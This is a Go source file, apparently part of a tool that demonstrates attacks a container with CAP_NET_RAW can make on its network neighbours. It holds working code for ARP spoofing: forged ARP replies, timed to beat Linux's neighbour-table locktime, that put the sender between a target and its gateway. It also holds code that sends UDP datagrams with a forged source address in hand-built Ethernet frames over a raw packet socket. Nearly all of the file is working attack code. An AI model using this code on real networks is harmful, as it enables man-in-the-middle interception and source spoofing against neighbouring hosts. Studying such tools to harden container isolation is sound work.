package main

import (
	"encoding/binary"
	"fmt"
	"net"
	"net/netip"
	"strconv"
	"time"

	"golang.org/x/sys/unix"
)

func init() {
	register("arp-reply", "IFACE CLAIMED-IP TARGET-IP TARGET-MAC", "send forged ARP replies: CLAIMED-IP is at this interface's address", arpReply)
	register("frame", "IFACE DST-MAC SRC-IP DST-IP:PORT MESSAGE", "send a UDP datagram in a hand-built Ethernet frame, past routing and any source check", frame)
}

// The attacks a container with CAP_NET_RAW (in the default set, as in
// Docker's) can make on its neighbours: a packet socket (AF_PACKET)
// sends whatever bytes it is given, as a frame, on the interface —
// routing, the neighbour table and the kernel's idea of the source
// address are all skipped. Only the bridge's walls see these frames.

// arpReply tells TARGET-IP, five times, that CLAIMED-IP — the gateway's,
// say — is at this interface's Ethernet address: ARP spoofing, the way a
// machine puts itself between a neighbour and its gateway.
func arpReply(args []string) error {
	if err := need(args, 4); err != nil {
		return err
	}
	ifi, err := net.InterfaceByName(args[0])
	if err != nil {
		return err
	}
	claimed, err1 := netip.ParseAddr(args[1])
	target, err2 := netip.ParseAddr(args[2])
	targetMAC, err3 := net.ParseMAC(args[3])
	if err1 != nil || err2 != nil || err3 != nil || !claimed.Is4() || !target.Is4() {
		return errUsage
	}
	arp := make([]byte, 28)
	binary.BigEndian.PutUint16(arp[0:], 1)      // hardware: Ethernet
	binary.BigEndian.PutUint16(arp[2:], 0x0800) // protocol: IPv4
	arp[4], arp[5] = 6, 4
	binary.BigEndian.PutUint16(arp[6:], 2) // a reply
	copy(arp[8:], ifi.HardwareAddr)
	c, t := claimed.As4(), target.As4()
	copy(arp[14:], c[:])
	copy(arp[18:], targetMAC)
	copy(arp[24:], t[:])
	// Linux keeps the first of several answers: an answer that would
	// change an entry updated less than a second ago (the neighbour
	// table's locktime) only marks it stale — and that is an update too.
	// So answers come more than a second apart: one of them overrides.
	for i := 0; i < 5; i++ {
		if err := sendFrame(ifi, targetMAC, 0x0806, arp); err != nil {
			return err
		}
		time.Sleep(1100 * time.Millisecond)
	}
	fmt.Printf("arp-reply: told %s that %s is at %s\n", target, claimed, ifi.HardwareAddr)
	return nil
}

// frame sends one UDP datagram from SRC-IP, whatever the interface's own
// address is, to DST-MAC — the next hop chosen by hand.
func frame(args []string) error {
	if err := need(args, 5); err != nil {
		return err
	}
	ifi, err := net.InterfaceByName(args[0])
	if err != nil {
		return err
	}
	dstMAC, err1 := net.ParseMAC(args[1])
	src, err2 := netip.ParseAddr(args[2])
	dst, err3 := netip.ParseAddrPort(args[3])
	if err1 != nil || err2 != nil || err3 != nil || !src.Is4() || !dst.Addr().Is4() {
		return errUsage
	}
	packet := udpPacket(src, dst, []byte(args[4]))
	if err := sendFrame(ifi, dstMAC, 0x0800, packet); err != nil {
		return err
	}
	fmt.Printf("frame: sent %s → %s as %s\n", src, dst, strconv.Quote(args[4]))
	return nil
}

// udpPacket builds an IPv4 header (with its checksum) and a UDP header
// (checksum 0: none, which IPv4 allows).
func udpPacket(src netip.Addr, dst netip.AddrPort, payload []byte) []byte {
	p := make([]byte, 28+len(payload))
	p[0] = 0x45 // version 4, 5 words of header
	binary.BigEndian.PutUint16(p[2:], uint16(len(p)))
	p[8], p[9] = 64, unix.IPPROTO_UDP // TTL, protocol
	s, d := src.As4(), dst.Addr().As4()
	copy(p[12:], s[:])
	copy(p[16:], d[:])
	binary.BigEndian.PutUint16(p[10:], checksum(p[:20]))
	binary.BigEndian.PutUint16(p[20:], 40000)
	binary.BigEndian.PutUint16(p[22:], dst.Port())
	binary.BigEndian.PutUint16(p[24:], uint16(8+len(payload)))
	copy(p[28:], payload)
	return p
}

// checksum is the Internet checksum (RFC 1071).
func checksum(b []byte) uint16 {
	var sum uint32
	for i := 0; i+1 < len(b); i += 2 {
		sum += uint32(binary.BigEndian.Uint16(b[i:]))
	}
	for sum > 0xffff {
		sum = sum>>16 + sum&0xffff
	}
	return ^uint16(sum)
}

// sendFrame writes an Ethernet frame — destination, this interface's
// address as the source, the EtherType, the payload — on a packet socket.
func sendFrame(ifi *net.Interface, dst net.HardwareAddr, etherType uint16, payload []byte) error {
	fd, err := unix.Socket(unix.AF_PACKET, unix.SOCK_RAW, 0)
	if err != nil {
		return fmt.Errorf("packet socket: %w", err)
	}
	defer unix.Close(fd)
	frame := make([]byte, 14, 14+len(payload))
	copy(frame[0:], dst)
	copy(frame[6:], ifi.HardwareAddr)
	binary.BigEndian.PutUint16(frame[12:], etherType)
	frame = append(frame, payload...)
	to := &unix.SockaddrLinklayer{Ifindex: ifi.Index, Halen: 6}
	copy(to.Addr[:], dst)
	return unix.Sendto(fd, frame, 0, to)
}
